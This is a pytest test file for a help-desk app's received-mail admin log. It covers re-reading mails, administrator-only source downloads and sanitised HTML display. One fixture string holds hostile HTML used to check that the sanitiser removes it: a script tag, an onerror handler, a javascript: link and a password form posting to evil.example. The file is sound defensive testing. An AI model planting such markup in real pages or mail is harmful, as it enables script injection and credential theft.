"""The log of received mails: what may be done from it, and what it hands out."""

from base64 import b64encode
from email import message_from_bytes
from email.policy import default

import pytest

from core.conversations.services import handle_intake
from core.plugins.switches import set_enabled
from core.work.models import WorkItem
from plugins.email_channel import contents
from plugins.email_channel.models import Mailbox, MailState, ReceivedMail
from plugins.email_channel.services import ingest
from tests.plugins.email_channel.test_channel import mail

pytestmark = pytest.mark.django_db
LOG = "/admin/received-mail/"


@pytest.fixture
def mailbox(cast):
    return Mailbox.objects.create(name="Help", address="help@wagdesk.example", is_default=True, team=cast.field_support)


@pytest.fixture
def root(client, cast):
    client.force_login(cast.root.user)
    return client


def test_all_again_is_offered_only_beside_what_could_not_be_read(root, mailbox):
    ingest(mail(subject="Fine"))
    ingest(b"Subject: Nobody wrote this\n\nHello")

    assert "Read all again" not in root.get(LOG).content.decode()
    assert "Read all again" in root.get(f"{LOG}?tab=quarantined").content.decode()


def test_a_mail_that_was_left_alone_can_be_read_again(root, cast, mailbox):
    customer = cast.dana.customer
    customer.is_blocked = True
    customer.save()
    left = ingest(mail())
    assert left.state == MailState.IGNORED
    customer.is_blocked = False
    customer.save()

    answer = root.post(f"{LOG}action/again/{left.pk}/", follow=True)

    assert "1 mail was taken in now." in answer.content.decode()
    left.refresh_from_db()
    assert (left.state, left.intake.item.title) == (MailState.HANDLED, "Drift")


def test_a_mail_whose_plugin_is_off_waits_and_says_for_what(root, mailbox):
    set_enabled(slug="tickets", enabled=False)
    kept = ingest(mail())

    for path in ("", "?tab=waiting", f"inspect/{kept.pk}/"):
        page = root.get(f"{LOG}{path}").content.decode()
        assert "Waiting: nobody takes it</span>" in page
        assert "no enabled plugin turns it into work" in page
        assert "Handled</span>" not in page

    set_enabled(slug="tickets", enabled=True)
    handle_intake(kept.intake.pk)

    assert "Handled</span>" in root.get(LOG).content.decode()
    assert "nobody takes it</span>" not in root.get(f"{LOG}?tab=waiting").content.decode()


def test_a_mail_that_still_cannot_be_taken_in_says_why(root, mailbox):
    lost = ingest(b"Subject: Nobody wrote this\n\nHello")

    said = root.post(f"{LOG}action/again/{lost.pk}/", follow=True).content.decode()

    assert "0 mails were taken in now. 1 not: It names no sender." in said


def test_reading_all_again_leaves_alone_what_was_left_alone(root, cast, mailbox):
    customer = cast.dana.customer
    customer.is_blocked = True
    customer.save()
    left = ingest(mail())
    customer.is_blocked = False
    customer.save()

    root.post(f"{LOG}action/again_all/")

    left.refresh_from_db()
    assert left.state == MailState.IGNORED
    assert not WorkItem._base_manager.exists()


def test_a_handled_mail_is_not_handled_twice(root, mailbox):
    handled = ingest(mail())

    root.post(f"{LOG}action/again/{handled.pk}/")

    assert WorkItem._base_manager.count() == 1


def test_the_whole_mail_is_saved_as_it_came(root, mailbox):
    raw = mail("long " * 10_000) + b"\xff\x00 end"
    kept = ingest(raw)

    shown = root.get(f"{LOG}inspect/{kept.pk}/").content.decode()
    answer = root.get(f"{LOG}source/{kept.pk}/")

    assert "Only the beginning is shown here." in shown
    assert f'href="{LOG}source/{kept.pk}/"' in shown
    assert answer.content == raw
    assert answer["Content-Type"] == "message/rfc822"
    assert answer["Content-Disposition"] == f'attachment; filename="mail-{kept.pk}.eml"'
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in answer["Content-Security-Policy"]


def test_a_mail_is_handed_out_to_administrators_only(client, cast, mailbox):
    kept = ingest(mail())
    client.force_login(cast.alice.user)

    answer = client.get(f"{LOG}source/{kept.pk}/")

    assert answer.status_code == 404
    assert ReceivedMail.objects.get().state == MailState.HANDLED


HOSTILE = (
    '<p>Look <b>here</b></p><script>steal()</script><img src="https://tracker.example/p.gif" onerror="steal()">'
    '<a href="javascript:steal()">x</a><form action="https://evil.example"><input name="password"></form>'
)


def with_html(html, *files):
    raw = mail("Look here", Cc="Col <col@seegrund.example>", In_Reply_To="<zero@x>")
    built = message_from_bytes(raw, policy=default)
    built.add_alternative(html, subtype="html")
    for name, data in files:
        built.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    return bytes(built)


def test_a_mail_is_shown_as_it_reads_and_harms_nobody(root, mailbox):
    kept = ingest(with_html(HOSTILE, ("log.bin", b"one"), ("empty.bin", b"")))

    answer = root.get(f"{LOG}inspect/{kept.pk}/")
    said = answer.context["contents"]

    assert "<b>here</b>" in said.html
    for harm in ("steal()", "<script", "<form", "<input", ' src="https://tracker.example'):
        assert harm not in said.html
    assert said.held_back
    assert (said.sender, said.cc) == ("Dana <dana@seegrund.example>", "Col <col@seegrund.example>")
    assert (said.message_id, said.references) == ("first@seegrund.example", ("zero@x",))
    assert [(file.name, file.size, file.is_stored) for file in said.files] == [
        ("log.bin", 3, True),
        ("empty.bin", 0, False),
    ]
    page = answer.content.decode()
    assert "Pictures from other servers are held back" in page
    assert f"#{kept.intake.item.number}</a>" in page
    assert "empty.bin (empty)" in page  # the reason


PNG, SVG = b"\x89PNG\r\n\x1a\n" + bytes(32), b"<svg xmlns='http://www.w3.org/2000/svg'/>"


def with_pictures(*pictures, html=""):
    """A mail whose HTML shows each of these (name, bytes) by its Content-ID, or as `html` says."""
    shown = html or "".join(f'<img src="cid:{name}@x" alt="{name}">' for name, _data in pictures)
    built = message_from_bytes(mail("Look"), policy=default)
    built.add_alternative(f"<p>Look</p>{shown}<img src='https://tracker.example/p.gif'>", subtype="html")
    for name, data in pictures:
        built.get_payload()[-1].add_related(data, "image", "png", cid=f"<{name}@x>", filename=name)
    return bytes(built)


def test_pictures_that_came_with_a_mail_stand_in_its_text(root, mailbox):
    kept = ingest(with_pictures(("lamp.png", PNG), ("drawing.svg", SVG)))

    said = root.get(f"{LOG}inspect/{kept.pk}/").context["contents"]

    assert f' src="data:image/png;base64,{b64encode(PNG).decode()}"' in said.html
    assert said.html.count(" src=") == 1  # neither what a browser might run, nor what lies elsewhere
    assert [file.name for file in said.files] == ["lamp.png", "drawing.svg"]


def test_pictures_too_large_for_a_page_stand_in_the_list_only(root, mailbox, monkeypatch):
    monkeypatch.setattr(contents, "MOST_PICTURE_BYTES", len(PNG) + 10)
    kept = ingest(with_pictures(("one.png", PNG), ("two.png", PNG + b"2"), ("three.png", PNG[:20])))

    said = root.get(f"{LOG}inspect/{kept.pk}/").context["contents"]

    assert said.html.count(" src=") == 1
    assert [file.name for file in said.files] == ["one.png", "two.png", "three.png"]


def test_a_picture_counts_at_every_place_it_stands(root, mailbox, monkeypatch):
    monkeypatch.setattr(contents, "MOST_PICTURE_BYTES", 3 * len(PNG) + 10)
    places = '<img src="cid:one.png@x" alt="one lamp">' * 300
    kept = ingest(with_pictures(("one.png", PNG), html=f"<p>Look</p>{places}"))

    said = root.get(f"{LOG}inspect/{kept.pk}/").context["contents"]

    assert said.html.count(f' src="data:image/png;base64,{b64encode(PNG).decode()}"') == 3
    assert said.html.count('alt="one lamp"') == 300


@pytest.mark.parametrize("raw", [b"no mail at all", b"\x00\x01"])
def test_a_mail_that_says_nothing_shows_why_and_its_source(root, mailbox, raw):
    kept = ingest(raw)

    answer = root.get(f"{LOG}inspect/{kept.pk}/")

    assert answer.status_code == 200
    assert answer.context["contents"] is None
    assert kept.reason in answer.content.decode()
    assert '<details class="wd-quote" open>' in answer.content.decode()
    assert "Its text cannot be made out" in answer.content.decode()


def test_a_mail_too_large_for_a_page_says_so_and_can_be_saved(root, mailbox, monkeypatch):
    kept = ingest(mail("Which lamp?"))
    monkeypatch.setattr(contents, "MOST_BYTES", kept.size - 1)

    page = root.get(f"{LOG}inspect/{kept.pk}/").content.decode()

    assert "are not opened here. Download it" in page
    assert f'href="{LOG}source/{kept.pk}/"' in page
    assert "cannot be made out" not in page
